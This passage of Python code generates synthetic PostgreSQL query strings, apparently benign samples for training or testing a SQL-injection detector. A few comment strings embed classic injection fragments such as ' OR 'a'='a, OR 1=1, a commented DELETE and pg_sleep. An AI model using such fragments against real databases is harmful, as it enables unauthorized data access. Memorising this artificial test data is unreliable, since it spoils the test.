        return 'SELECT "fencers".* FROM "fencers" WHERE %s ORDER BY "fencers"."surname" ASC LIMIT $5' % " AND ".join(cols)

    @add("cx12_ecto_dynamic", "complex_query_builder")
    def _(r):
        parts = r.sample(['(t0."tank_code" = $1)', '(t0."ph" < $2)', '(t0."nitrate_ppm" > $3)', '(t0."read_at" >= $4)'], r.randint(1, 4))
        return 'SELECT t0."id", t0."tank_code", t0."ph", t0."read_at" FROM "tank_readings" AS t0 WHERE %s ORDER BY t0."read_at" DESC' % " AND ".join(parts)

    @add("cx12_kysely_builder", "complex_query_builder")
    def _(r):
        return 'select "m"."id", "m"."name", "m"."mass_g" from "meteorites_specimen" as "m" where "m"."classification" in ($1, $2, $3) and "m"."mass_g" between $4 and $5 order by "m"."mass_g" desc'

    @add("cx12_sea_query_builder", "complex_query_builder")
    def _(r):
        return ('SELECT "specimen_no", "taxon", "prep_hours" FROM "fossil_specimens" WHERE "formation" = %s AND "prep_hours" > %d ORDER BY "prep_hours" DESC LIMIT %d'
                % (q(r.choice(FORMATIONS)), r.randint(1, 300), r.choice([10, 25, 50])))

    @add("cx12_sqlalchemy_core_like", "complex_query_builder")
    def _(r):
        return ("SELECT type_cases.drawer_no, type_cases.typeface, type_cases.point_size \nFROM type_cases \nWHERE type_cases.typeface ILIKE %(typeface_1)s AND type_cases.point_size IN "
                "(__[POSTCOMPILE_point_size_1]) ORDER BY type_cases.drawer_no").replace("%(typeface_1)s", q("%" + r.choice(["Caslon", "Bodoni", "Gill", "Futura"]) + "%")).replace(
                    "(__[POSTCOMPILE_point_size_1])", "(%s)" % ", ".join(str(x) for x in sorted(r.sample([6, 8, 10, 12, 14, 18, 24, 36, 48, 72], r.randint(1, 5)))))

    # ---- comments and hints
    @add("cx12_comments", "complex_comments_hints")
    def _(r):
        i = r.randint(1, 999999)
        return r.choice([
            "SELECT \"puppets\".* FROM \"puppets\" WHERE \"puppets\".\"id\" = %d LIMIT 1 /*application:PuppetTheatre,controller:puppets,action:show*/" % i,
            "SELECT tower_no FROM lifeguard_shifts WHERE beach = %s /*traceparent='00-%032x-%016x-01'*/" % (q(r.choice(BEACHES)), r.getrandbits(128), r.getrandbits(64)),
            "/*+ IndexScan(q qso_log_contest_idx) */ SELECT count(*) FROM qso_log q WHERE contest_id = %d" % r.randint(1, 3000),
            "/*+ HashJoin(f i) SeqScan(i) */ SELECT f.envelope_reg, max(i.inspected_on) FROM balloon_flights f JOIN envelope_inspections i ON i.envelope_reg = f.envelope_reg GROUP BY f.envelope_reg",
            "-- Metabase:: userID: %d queryType: native queryHash: %064x\nSELECT volcano_code, count(*) FROM volcano_quakes WHERE origin_time > now() - interval '7 days' GROUP BY 1" % (r.randint(1, 300), r.getrandbits(256)),
            "SELECT scoops_left FROM truck_flavour_stock WHERE truck_id = %d -- union with the depot stock was removed in v3" % r.randint(1, 40),
            "SELECT count(*) FROM tattoo_bookings /* old filter: WHERE deposit_cents > 0 OR 1=1 -- see ticket %d */ WHERE studio_id = %d" % (r.randint(100, 9999), r.randint(1, 30)),
            "SELECT stake_id /* bamboo stakes */, melt_cm /* since last visit */ FROM ablation_stakes WHERE glacier_id = %d" % r.randint(1, 80),
            "-- report: weekly rescues\n-- owner: beach-ops\nSELECT beach, count(*) FROM rescue_reports WHERE reported_at >= %s GROUP BY beach ORDER BY 2 DESC" % q(rdate(r)),
            "SELECT surname FROM fencers WHERE surname = %s -- yes, a fencer is really called 'Drop'; the form is fine" % q(r.choice(["Drop", "Select", "Union", "Delete"])),
            "/* request_id=%s user=%d */ UPDATE truck_chimes SET volume_pct = %d WHERE truck_id = %d" % (rword(r, 12), r.randint(1, 900), r.randint(10, 100), r.randint(1, 40)),
            "SELECT /* outer /* inner */ still outer */ job_no FROM print_jobs WHERE job_id = %d" % i,
            "SELECT note -- ; DELETE FROM prep_notes (quoted from the lab's old script)\nFROM prep_notes WHERE specimen_no = %s" % q("MOR-%04d" % r.randint(0, 9999)),
            "SELECT initials, score FROM pinball_scores WHERE machine_serial = %s /* ' OR 'a'='a was the v1 bug */ ORDER BY score DESC LIMIT 10" % q("AFM-%05d" % r.randint(0, 99999)),
            "/* pg_stat_statements queryid=%d */ SELECT tank_code, avg(ph) FROM tank_readings GROUP BY tank_code" % r.randint(-2 ** 62, 2 ** 62),
            "SELECT job_id FROM tug_jobs WHERE port_code = %s; -- pg_sleep(2) only in the staging soak test" % q(r.choice(PORTS)),
            "/* sqlcommenter: db_driver='pgx', route='/v1/quakes/{id}' */ SELECT * FROM volcano_quakes WHERE id = %d" % i,
            "SELECT e.name -- the element's name\n     , e.mass_g -- grams, not kg\nFROM meteorites_specimen e WHERE e.id = %d" % i])

    # ---- CTE and window reports
    @add("cx12_cte_quake_swarm", "complex_cte_window")
    def _(r):
        return ("WITH q AS (SELECT volcano_code, origin_time, magnitude, origin_time - lag(origin_time) OVER (PARTITION BY volcano_code ORDER BY origin_time) AS gap FROM volcano_quakes "
                "WHERE origin_time > now() - interval '%d days'), s AS (SELECT *, sum(CASE WHEN gap > interval '%d minutes' OR gap IS NULL THEN 1 ELSE 0 END) OVER (PARTITION BY volcano_code ORDER BY origin_time) AS swarm_id FROM q) "
                "SELECT volcano_code, swarm_id, count(*) AS events, max(magnitude) AS max_mag, min(origin_time) AS started FROM s GROUP BY volcano_code, swarm_id HAVING count(*) >= %d ORDER BY started DESC"
                % (r.randint(3, 60), r.choice([15, 30, 60]), r.randint(5, 20)))

    @add("cx12_window_fencing_rank", "complex_cte_window")
    def _(r):
        return ("SELECT fencer, wins, touches_scored - touches_received AS indicator, rank() OVER (ORDER BY wins DESC, touches_scored - touches_received DESC, touches_scored DESC) AS seed "
                "FROM (SELECT fencer_a AS fencer, count(*) FILTER (WHERE score_a > score_b) AS wins, sum(score_a) AS touches_scored, sum(score_b) AS touches_received FROM fencing_bouts "
                "WHERE pool_no = %d GROUP BY fencer_a) p" % r.randint(1, 20))

    @add("cx12_cte_recursive_lineage", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE lineage(dog_id, name, sire_id, depth) AS (SELECT id, name, sire_id, 0 FROM \"SledDogs\" WHERE id = %d UNION ALL "
                "SELECT d.id, d.name, d.sire_id, l.depth + 1 FROM \"SledDogs\" d JOIN lineage l ON d.id = l.sire_id WHERE l.depth < %d) SELECT * FROM lineage ORDER BY depth" % (r.randint(1, 900), r.randint(3, 8)))

    @add("cx12_window_melt_rate", "complex_cte_window")
    def _(r):
        return ("SELECT stake_id, surveyed_on, melt_cm, melt_cm - lag(melt_cm) OVER w AS delta_cm, (melt_cm - lag(melt_cm) OVER w) / nullif(surveyed_on - lag(surveyed_on) OVER w, 0) AS cm_per_day "
                "FROM ablation_stakes WHERE glacier_id = %d WINDOW w AS (PARTITION BY stake_id ORDER BY surveyed_on)" % r.randint(1, 80))

    @add("cx12_cte_stock_reorder", "complex_cte_window")
    def _(r):
        return ("WITH usage AS (SELECT truck_id, flavour, avg(scoops_sold) AS daily FROM truck_daily_sales WHERE sold_on > current_date - %d GROUP BY truck_id, flavour), "
                "stock AS (SELECT truck_id, flavour, scoops_left FROM truck_flavour_stock) SELECT s.truck_id, s.flavour, s.scoops_left, round(s.scoops_left / nullif(u.daily, 0), 1) AS days_left "
                "FROM stock s JOIN usage u USING (truck_id, flavour) WHERE s.scoops_left < u.daily * %d ORDER BY days_left NULLS FIRST" % (r.choice([7, 14, 28]), r.randint(2, 5)))

    @add("cx12_window_ph_moving", "complex_cte_window")
    def _(r):
        return ("SELECT tank_code, read_at, ph, avg(ph) OVER (PARTITION BY tank_code ORDER BY read_at RANGE BETWEEN interval '%d hours' PRECEDING AND CURRENT ROW) AS ph_avg, "
                "ph - first_value(ph) OVER (PARTITION BY tank_code ORDER BY read_at ROWS BETWEEN %d PRECEDING AND CURRENT ROW) AS drift FROM tank_readings WHERE read_at > now() - interval '%d days'"
                % (r.choice([6, 12, 24]), r.randint(3, 20), r.randint(1, 30)))

    @add("cx12_cte_writable_move", "complex_cte_window")
    def _(r):
        return ("WITH done AS (DELETE FROM tug_jobs WHERE status = 'done' AND eta < %s RETURNING *) INSERT INTO tug_jobs_archive SELECT * FROM done" % q(rdate(r, 2019, 2024)))

    @add("cx12_window_top_per_machine", "complex_cte_window")
    def _(r):
        return ("SELECT machine_serial, initials, score FROM (SELECT machine_serial, initials, score, row_number() OVER (PARTITION BY machine_serial ORDER BY score DESC) AS rn FROM pinball_scores "
                "WHERE set_at >= %s) x WHERE rn <= %d ORDER BY machine_serial, rn" % (q(rdate(r)), r.randint(1, 5)))

    @add("cx12_cte_danger_trend", "complex_cte_window")
    def _(r):
        return ("WITH daily AS (SELECT zone_code, issued_at::date AS d, max(danger_level) AS lvl FROM avalanche_bulletins GROUP BY 1, 2) "
                "SELECT zone_code, d, lvl, lvl - lag(lvl, 1, lvl) OVER (PARTITION BY zone_code ORDER BY d) AS change, count(*) FILTER (WHERE lvl >= %d) OVER (PARTITION BY zone_code) AS high_days "
                "FROM daily WHERE d >= %s ORDER BY zone_code, d" % (r.randint(3, 4), q(rdate(r))))

    @add("cx12_lateral_latest", "complex_cte_window")
    def _(r):
        return ("SELECT t.tank_code, last.read_at, last.ph FROM tanks t LEFT JOIN LATERAL (SELECT read_at, ph FROM tank_readings x WHERE x.tank_code = t.tank_code ORDER BY read_at DESC LIMIT %d) last ON true "
                "WHERE t.hall = %s" % (r.randint(1, 3), q(r.choice(["North", "Tropical", "Cold Water", "Quarantine"]))))

    # ---- union / set reports
    @add("cx12_union_kpis", "complex_union_report")
    def _(r):
        b = q(r.choice(BEACHES))
        return ("SELECT 'rescues' AS metric, count(*)::numeric AS value FROM rescue_reports WHERE beach = %s AND reported_at::date = current_date UNION ALL "
                "SELECT 'guards_on_duty', count(DISTINCT guard_id) FROM lifeguard_shifts WHERE beach = %s AND now() BETWEEN shift_start AND shift_start + interval '8 hours' UNION ALL "
                "SELECT 'red_flags', count(*) FROM beach_flags WHERE beach = %s AND flag_colour = 'red'" % (b, b, b))

    @add("cx12_union_people", "complex_union_report")
    def _(r):
        pat = q(r.choice(["O'%", "Mac%", "%son", "Union%", "Sel%", "D'%"]))
        return ("SELECT 'fencer' AS kind, surname AS name FROM fencers WHERE surname ILIKE %s UNION SELECT 'guard', full_name FROM lifeguards WHERE full_name ILIKE %s "
                "UNION SELECT 'pilot', full_name FROM marine_pilots WHERE full_name ILIKE %s ORDER BY name LIMIT %d" % (pat, pat, pat, r.choice([20, 100])))

    @add("cx12_except_uninspected", "complex_union_report")
    def _(r):
        return "SELECT envelope_reg FROM balloon_envelopes WHERE retired_on IS NULL EXCEPT SELECT envelope_reg FROM envelope_inspections WHERE inspected_on >= %s ORDER BY 1" % q(rdate(r))

    @add("cx12_intersect_regulars", "complex_union_report")
    def _(r):
        return ("SELECT client_email FROM tattoo_bookings WHERE starts_at >= %s INTERSECT SELECT client_email FROM consent_forms WHERE signed_at >= %s" % (q(rdate(r)), q(rdate(r))))

    @add("cx12_union_all_feed", "complex_union_report")
    def _(r):
        return ("(SELECT 'quake' AS kind, origin_time AS at, volcano_code AS ref FROM volcano_quakes ORDER BY origin_time DESC LIMIT %d) UNION ALL "
                "(SELECT 'alert', updated_at, volcano_code FROM volcano_alert_levels ORDER BY updated_at DESC LIMIT %d) ORDER BY at DESC" % (r.choice([10, 20]), r.choice([5, 10])))

    # ---- COPY
    @add("cx12_copy", "complex_copy_stdin")
    def _(r):
        return r.choice([
            "COPY public.ablation_stakes (stake_id, glacier_id, melt_cm, surveyed_on) FROM stdin;",
            "COPY gas_flux_readings (station_id, so2_tonnes_day, measured_at) FROM STDIN WITH (FORMAT csv, HEADER true)",
            "COPY (SELECT callsign, band, mode, logged_at FROM qso_log WHERE contest_id = %d) TO STDOUT WITH (FORMAT csv, HEADER)" % r.randint(1, 3000),
            "COPY tank_readings (tank_code, ph, nitrate_ppm, read_at) FROM STDIN (FORMAT text, DELIMITER E'\\t', NULL '')",
            "COPY pinball_audits FROM STDIN WITH (FORMAT binary)",
            "COPY \"TrainingRuns\" (\"dogId\", \"km\", \"ranOn\") FROM STDIN WITH (FORMAT csv, QUOTE '\"', ESCAPE '\"')",
            "COPY public.fossil_specimens (specimen_no, taxon, formation, matrix) FROM stdin;",
            "COPY (SELECT * FROM rescue_reports WHERE beach = %s) TO STDOUT WITH CSV HEADER FORCE QUOTE *" % q(r.choice(BEACHES)),
            "COPY snow_pits (pit_id, aspect, elevation_m, ect_result) FROM STDIN WITH (FORMAT csv, HEADER match)",
            "COPY type_cases TO STDOUT WITH (FORMAT text, NULL '\\N')",
            "COPY (SELECT job_no, client FROM print_jobs WHERE finished_on >= %s) TO STDOUT WITH (FORMAT csv, DELIMITER ';')" % q(rdate(r)),
            "COPY volcano_quakes (volcano_code, magnitude, depth_km, origin_time) FROM STDIN WITH (FORMAT csv, FORCE_NOT_NULL (volcano_code))",
            "COPY (SELECT name, classification, mass_g FROM meteorites_specimen ORDER BY mass_g DESC) TO STDOUT WITH (FORMAT csv, HEADER, ENCODING 'UTF8')",
            "COPY wardrobe_garment (garment_tag, size_label, production_id) FROM STDIN WITH (FORMAT csv, NULL 'NA', HEADER false)"])

    # ---- batch inserts
    @add("cx12_batch_readings", "complex_batch_insert")
    def _(r):
        tank = q(r.choice(TANKS))
        rows = ", ".join("(%s, %.2f, %.1f, %s)" % (tank, r.uniform(7.6, 8.4), r.uniform(0, 25), q(ts(r))) for _ in range(r.randint(3, 7)))
        return "INSERT INTO tank_readings (tank_code, ph, nitrate_ppm, read_at) VALUES " + rows

    @add("cx12_batch_qsos", "complex_batch_insert")
    def _(r):
        calls = ["DL1ABC", "JA7XYZ", "VK9XX", "EA8/G4ABC", "K1TTT", "OH2BH", "ZS6AA", "PY2XB", "VE3EJ", "9A1A"]
        cid = r.randint(1, 3000)
        rows = ", ".join("(%d, %s, %s, %s, %s)" % (cid, q(c), q(r.choice(["20m", "40m", "15m", "10m", "80m"])), q(r.choice(["CW", "SSB", "FT8"])), q(ts(r))) for c in r.sample(calls, r.randint(2, 6)))
        return "INSERT INTO qso_log (contest_id, callsign, band, mode, logged_at) VALUES %s ON CONFLICT DO NOTHING" % rows

    @add("cx12_batch_wigs", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%s, %s, %s)" % (q(r.choice(PEOPLE)), q(r.choice(PRODUCTIONS)), q(ts(r))) for _ in range(r.randint(2, 5)))
        return 'INSERT INTO "wardrobe_wigfitting" ("performer", "production", "fitting_at") VALUES %s RETURNING "wardrobe_wigfitting"."id"' % rows

    @add("cx12_batch_unnest", "complex_batch_insert")
    def _(r):
        n = r.randint(2, 6)
        return ("INSERT INTO envelope_inspections (envelope_reg, porosity_s, grab_test_kg) SELECT * FROM unnest(ARRAY[%s]::text[], ARRAY[%s]::int[], ARRAY[%s]::numeric[])"
                % (", ".join(q("G-%s" % rword(r, 4, upper=True)) for _ in range(n)), ", ".join(str(r.randint(5, 90)) for _ in range(n)), ", ".join("%.1f" % r.uniform(10, 40) for _ in range(n))))

    # ---- built-in functions
    @add("cx12_builtins", "complex_builtin_funcs")
    def _(r):
        i = r.randint(1, 99999)
        return r.choice([
            "SELECT to_char(origin_time AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"'), round(magnitude::numeric, 1) FROM volcano_quakes WHERE id = %d" % i,
            "SELECT regexp_replace(callsign, '/(P|M|MM|QRP)$', ''), split_part(callsign, '/', 1), regexp_match(callsign, '^([A-Z0-9]{1,3}?)[0-9]') FROM qso_log WHERE id = %d" % i,
            "SELECT format('%%s (%%s g)', name, to_char(mass_g, 'FM999G999D0')), initcap(classification) FROM meteorites_specimen WHERE id = %d" % i,
            "SELECT width_bucket(magnitude, 0, 7, 14) AS bin, count(*) FROM volcano_quakes WHERE volcano_code = %s GROUP BY 1 ORDER BY 1" % q(r.choice(VOLCANOES)),
            "SELECT date_trunc('hour', read_at), avg(ph), stddev_samp(ph), percentile_cont(0.5) WITHIN GROUP (ORDER BY nitrate_ppm) FROM tank_readings WHERE tank_code = %s GROUP BY 1 ORDER BY 1 DESC LIMIT %d" % (q(r.choice(TANKS)), r.choice([24, 48])),
            "SELECT jsonb_set(settings, '{tilt,warnings}', to_jsonb(%d)), settings #>> '{balls_per_game}', jsonb_typeof(settings -> 'replay') FROM pinball_settings WHERE machine_serial = %s" % (r.randint(1, 4), q("AFM-%05d" % r.randint(0, 99999))),
            "SELECT array_to_string(tags, ', '), array_position(tags, 'crack'), cardinality(tags), tags || ARRAY[%s] FROM luthier_repairs WHERE id = %d" % (q(r.choice(["seam", "neck", "bass bar"])), i),
            "SELECT age(found_on, date '%d-01-01'), extract(year FROM found_on)::int, to_char(found_on, 'FMMonth YYYY') FROM meteorites_specimen WHERE id = %d" % (r.randint(1800, 1950), i),
            "SELECT make_timestamptz(%d, %d, %d, %d, 0, 0, 'Pacific/Honolulu'), make_interval(hours => %d, mins => %d)" % (r.randint(2020, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 23), r.randint(0, 72), r.randint(0, 59)),
            "SELECT ts_headline('english', summary, to_tsquery('english', %s), 'StartSel=<b>, StopSel=</b>, MaxWords=25') FROM field_observations WHERE id = %d" % (q(r.choice(["whumpf & crack", "slab:*", "cornice | hoar"])), i),
            "SELECT translate(upper(postcode), ' ', ''), left(postcode, strpos(postcode, ' ') - 1), lpad(cuts::text, 2, '0') FROM locksmith_callouts JOIN key_blanks USING (blank_code) WHERE callout_id = %d" % i,
            "SELECT string_agg(flavour, ' / ' ORDER BY scoops_left DESC) FILTER (WHERE scoops_left > 0), bool_and(scoops_left > %d) FROM truck_flavour_stock WHERE truck_id = %d" % (r.randint(1, 20), r.randint(1, 40)),
            "SELECT E'Truck %d\\nRoute: %s', U&'Gel\\0061to', $tune$Greensleeves (don't loop)$tune$" % (r.randint(1, 40), r.choice(["R7-SEAFRONT", "PARKS-LOOP", "HARBOUR-EAST"])),
            "SELECT numrange(%d, %d, '[)') @> density_kg_m3::numeric, lower(numrange(%d, %d)) FROM tonewood_billets WHERE id = %d" % (r.randint(300, 400), r.randint(401, 700), r.randint(1, 50), r.randint(51, 99), i),
            "SELECT date_bin(interval '%d minutes', measured_at, timestamptz '2000-01-01'), max(so2_tonnes_day) FROM gas_flux_readings WHERE station_id = %s GROUP BY 1 ORDER BY 1 DESC" % (r.choice([10, 30, 60]), q(r.choice(["FUM-N", "FUM-S", "CRATER-E"]))),
            "SELECT md5(client_email || %s), encode(sha256(convert_to(client_email, 'UTF8')), 'hex') FROM consent_forms WHERE id = %d" % (q(rword(r, 8)), i),
            "SELECT generate_series(%s::date, %s::date, interval '1 week')::date AS week_start" % (q(rdate(r, 2024, 2024)), q(rdate(r, 2025, 2025))),
            "SELECT greatest(score_a, score_b), least(score_a, score_b), abs(score_a - score_b), CASE WHEN score_a > score_b THEN fencer_a ELSE fencer_b END FROM fencing_bouts WHERE bout_id = %d" % i,
            "SELECT xmlelement(name puppet, xmlattributes(id AS id, maker AS maker), name) FROM puppets WHERE theatre_id = %d" % r.randint(1, 40),
            "SELECT to_timestamp(%d) AT TIME ZONE 'Europe/Oslo', to_date(%s, 'DD.MM.YYYY'), to_number('12 450,00', '99G999D99')" % (r.randint(1500000000, 1800000000), q("%02d.%02d.%d" % (r.randint(1, 28), r.randint(1, 12), r.randint(2019, 2026)))),
            "SELECT point(%.4f, %.4f) <-> point(lon, lat) AS dist, site_name FROM launch_sites ORDER BY dist LIMIT %d" % (r.uniform(-10, 10), r.uniform(40, 60), r.randint(1, 5)),
            "SELECT coalesce(nullif(trim(condition_note), ''), '(none)'), length(condition_note), octet_length(condition_note) FROM meteorites_loan WHERE loan_ref = %s" % q("ML-%04d" % r.randint(0, 9999)),
            "SELECT justify_hours(sum(returned_on - lent_on) * interval '1 day'), count(*) FROM meteorites_loan WHERE borrower = %s" % q(r.choice(["NHM London", "Smithsonian", "Vatican Observatory", "MNHN Paris"])),
            "SELECT unnest(string_to_array(%s, ',')) AS note" % q(",".join(r.sample(["bergamot", "neroli", "vetiver", "oakmoss", "iris", "ambrette"], r.randint(2, 4)))),
            "SELECT gen_random_uuid(), clock_timestamp(), pg_backend_pid() IS NOT NULL",
            "SELECT round(avg(km)::numeric, 1), max(km), sum(km) FILTER (WHERE \"ranOn\" >= current_date - %d) FROM \"TrainingRuns\" WHERE \"dogId\" = %d" % (r.choice([7, 30]), r.randint(1, 900)),
            "SELECT substring(serial from '^[A-Z]+'), position('-' in serial), overlay(serial placing '***' from 4 for 3) FROM pinball_machines WHERE id = %d" % i,
            "SELECT %s::tsvector @@ %s::tsquery, to_tsvector('simple', %s)" % (q("whumpf crack slab"), q(r.choice(["crack & slab", "whumpf | hoar", "!cornice"])), q(r.choice(NOTES)))])

    # ---- maintenance and admin
    @add("cx12_admin", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["volcano_quakes", "tank_readings", "qso_log", "rescue_reports", "pinball_scores", "tattoo_bookings", "tug_jobs"])
        return r.choice([
            "VACUUM (ANALYZE, VERBOSE) %s" % t, "ANALYZE %s" % t, "REINDEX TABLE CONCURRENTLY %s" % t, "CLUSTER %s USING %s_pkey" % (t, t),
            "SELECT relname, n_live_tup, n_dead_tup, last_autovacuum FROM pg_stat_user_tables WHERE relname = %s" % q(t),
            "SELECT pg_size_pretty(pg_total_relation_size(%s)), pg_size_pretty(pg_indexes_size(%s))" % (q(t), q(t)),
            "SELECT pid, state, wait_event_type, now() - query_start AS running FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle' ORDER BY running DESC LIMIT %d" % r.choice([5, 20]),
            "SELECT indexrelname, idx_scan FROM pg_stat_user_indexes WHERE relname = %s ORDER BY idx_scan" % q(t),
            "ALTER TABLE %s SET (autovacuum_vacuum_scale_factor = %.2f)" % (t, r.choice([0.01, 0.02, 0.05])),
            "SELECT slot_name, active, pg_size_pretty(pg_wal_lsn_diff(pg_current_wal_lsn(), restart_lsn)) FROM pg_replication_slots",
            "REFRESH MATERIALIZED VIEW CONCURRENTLY mv_%s_daily" % t, "SELECT pg_stat_reset_single_table_counters(%s::regclass)" % q(t),
            "SELECT locktype, relation::regclass, mode, granted FROM pg_locks WHERE NOT granted",
            "SELECT query, calls, mean_exec_time FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT %d" % r.choice([10, 25]),
            "SELECT schemaname, relname, seq_scan, idx_scan FROM pg_stat_user_tables WHERE seq_scan > idx_scan ORDER BY seq_scan DESC LIMIT 10",
            "SELECT checkpoints_timed, checkpoints_req, buffers_checkpoint FROM pg_stat_bgwriter"])

    # ---- transactions
    @add("cx12_tx", "complex_transactions")
    def _(r):
        i = r.randint(1, 99999)
        return r.choice([
            "BEGIN;\nUPDATE truck_flavour_stock SET scoops_left = scoops_left - %d WHERE truck_id = %d AND flavour = %s;\nINSERT INTO truck_daily_sales (truck_id, flavour, scoops_sold, sold_on) VALUES (%d, %s, %d, current_date);\nCOMMIT;" % ((lambda n, t, fl: (n, t, fl, t, fl, n))(r.randint(1, 30), r.randint(1, 40), q(r.choice(["pistachio", "rocky road", "mango sorbet", "salted caramel"])))),
            "BEGIN ISOLATION LEVEL SERIALIZABLE;\nSELECT seat_no FROM show_seats WHERE performance_id = %d AND booked_by IS NULL FOR UPDATE SKIP LOCKED LIMIT 2;\nCOMMIT;" % i,
            "START TRANSACTION READ ONLY;\nSELECT count(*) FROM qso_log WHERE contest_id = %d;\nSELECT max(logged_at) FROM qso_log WHERE contest_id = %d;\nCOMMIT;" % (i, i),
            "BEGIN;\nSAVEPOINT before_assign;\nUPDATE tug_jobs SET tug_name = %s WHERE job_id = %d;\nROLLBACK TO SAVEPOINT before_assign;\nRELEASE SAVEPOINT before_assign;\nCOMMIT;" % (q(r.choice(["Smit Polen", "Svitzer Kent"])), i),
            "BEGIN;\nSET LOCAL lock_timeout = '%ds';\nLOCK TABLE beach_flags IN SHARE ROW EXCLUSIVE MODE;\nUPDATE beach_flags SET flag_colour = 'red' WHERE beach = %s;\nCOMMIT;" % (r.randint(1, 10), q(r.choice(BEACHES))),
            "BEGIN;\nSELECT pg_advisory_xact_lock(%d);\nUPDATE pinball_settings SET settings = settings || '{\"free_play\": false}' WHERE machine_serial = %s;\nCOMMIT;" % (r.randint(1, 10 ** 9), q("AFM-%05d" % r.randint(0, 99999))),
            "PREPARE TRANSACTION 'loan-%d'" % i, "COMMIT PREPARED 'loan-%d'" % i, "ROLLBACK",
            "BEGIN;\nDELETE FROM wardrobe_wigfitting WHERE fitting_at < now() - interval '2 years';\nCOMMIT AND NO CHAIN;"])

    # ---- DDL
    @add("cx12_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS volcano_quakes_origin_%d ON volcano_quakes USING brin (origin_time)" % n,
            "ALTER TABLE tattoo_bookings ADD CONSTRAINT no_overlap_%d EXCLUDE USING gist (artist_id WITH =, tstzrange(starts_at, ends_at) WITH &&)" % n,
            "CREATE TYPE flag_colour_%d AS ENUM ('green', 'yellow', 'red', 'yellow-red', 'black-white')" % n,
            "ALTER TABLE tank_readings ADD COLUMN IF NOT EXISTS alk_dkh numeric(4,1) CHECK (alk_dkh BETWEEN 0 AND 20)",
            "CREATE TABLE IF NOT EXISTS tilt_readings_%d_%02d PARTITION OF tilt_readings FOR VALUES FROM ('%d-%02d-01') TO ('%d-%02d-01')" % ((lambda y, m: (y, m, y, m, y + (m == 12), m % 12 + 1))(r.randint(2020, 2027), r.randint(1, 12))),
            "COMMENT ON COLUMN fossil_specimens.matrix IS 'Rock type around the bone; free text from the field notebook (rev %d)'" % n,
            "CREATE UNIQUE INDEX qso_dupe_%d ON qso_log (contest_id, callsign, band, mode)" % n,
            "ALTER TABLE luthier_repairs ALTER COLUMN tags SET DEFAULT '{}'::text[]",
            "CREATE DOMAIN callsign_%d AS text CHECK (VALUE ~ '^[A-Z0-9/]{3,12}$')" % n,
            "ALTER TABLE pinball_scores ADD CONSTRAINT score_positive_%d CHECK (score >= 0) NOT VALID" % n,
            "CREATE MATERIALIZED VIEW IF NOT EXISTS mv_quake_daily_%d AS SELECT volcano_code, origin_time::date AS d, count(*) FROM volcano_quakes GROUP BY 1, 2 WITH NO DATA" % n])

    # ---- migration scripts of the stacks
    @add("cx12_mig_rails", "complex_migration_script")
    def _(r):
        v = "%d%02d%02d%06d" % (r.randint(2019, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))
        return r.choice(['INSERT INTO "schema_migrations" ("version") VALUES (%s) RETURNING "version"' % q(v),
                         'SELECT "schema_migrations"."version" FROM "schema_migrations" ORDER BY "schema_migrations"."version" ASC',
                         'CREATE TABLE "puppet_repairs" ("id" bigserial primary key, "puppet_id" bigint NOT NULL, "note" text, "created_at" timestamp(6) NOT NULL, "updated_at" timestamp(6) NOT NULL)',
                         'SELECT "ar_internal_metadata"."value" FROM "ar_internal_metadata" WHERE "ar_internal_metadata"."key" = $1 LIMIT $2'])

    @add("cx12_mig_django", "complex_migration_script")
    def _(r):
        return r.choice(['INSERT INTO "django_migrations" ("app", "name", "applied") VALUES (%s, %s, %s) RETURNING "django_migrations"."id"' % (
                             q(r.choice(["wardrobe", "meteorites", "bookings"])), q("%04d_%s" % (r.randint(1, 80), r.choice(["auto", "add_wig_cap", "alter_mass_g", "initial"]))), q(ts(r) + "+00:00")),
                         'SELECT "django_migrations"."id", "django_migrations"."app", "django_migrations"."name", "django_migrations"."applied" FROM "django_migrations"',
                         'ALTER TABLE "wardrobe_garment" ADD COLUMN "last_cleaned_on" date NULL',
                         'CREATE INDEX "wardrobe_wigfitting_production_id_%x" ON "wardrobe_wigfitting" ("production_id")' % r.getrandbits(32)])

    @add("cx12_mig_laravel", "complex_migration_script")
    def _(r):
        return r.choice(['select max("batch") as aggregate from "migrations"',
                         'insert into "migrations" ("migration", "batch") values (%s, %d)' % (q("%d_%02d_%02d_%06d_create_ink_lots_table" % (r.randint(2019, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))), r.randint(1, 40)),
                         'create table "ink_lots" ("id" bigserial not null primary key, "lot_code" varchar(255) not null, "quarantined" boolean not null default \'0\', "created_at" timestamp(0) without time zone null, "updated_at" timestamp(0) without time zone null)',
                         'alter table "ink_lots" add constraint "ink_lots_lot_code_unique" unique ("lot_code")'])

    @add("cx12_mig_efcore", "complex_migration_script")
    def _(r):
        return r.choice(['SELECT "MigrationId", "ProductVersion" FROM "__EFMigrationsHistory" ORDER BY "MigrationId";',
                         'INSERT INTO "__EFMigrationsHistory" ("MigrationId", "ProductVersion") VALUES (%s, %s);' % (q("%d%02d%02d%06d_AddIfraLimit" % (r.randint(2020, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))), q(r.choice(["8.0.4", "7.0.18", "9.0.1"]))),
                         'CREATE TABLE IF NOT EXISTS "__EFMigrationsHistory" (\n    "MigrationId" character varying(150) NOT NULL,\n    "ProductVersion" character varying(32) NOT NULL,\n    CONSTRAINT "PK___EFMigrationsHistory" PRIMARY KEY ("MigrationId")\n);',
                         'ALTER TABLE "RawMaterials" ADD "IfraLimit" numeric(6,3);'])

    @add("cx12_mig_flyway", "complex_migration_script")
    def _(r):
        return r.choice(['SELECT "installed_rank","version","description","type","script","checksum","installed_on","installed_by","execution_time","success" FROM "public"."flyway_schema_history" WHERE "installed_rank" > %d ORDER BY "installed_rank"' % r.randint(0, 90),
